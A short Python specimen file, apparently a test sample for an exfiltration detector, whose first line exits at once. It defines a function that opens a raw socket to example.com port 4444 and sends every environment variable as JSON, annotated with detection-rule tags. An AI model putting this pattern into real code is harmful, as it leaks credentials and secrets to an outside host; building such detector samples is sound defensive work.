raise SystemExit("specimen: not to be run")
import os
import json
from socket import create_connection as dial

def tell():
    line = dial(("example.com", 4444))
    line.send(json.dumps(dict(os.environ)).encode())  # match: raw-socket-carries-data  # match: identity-sent
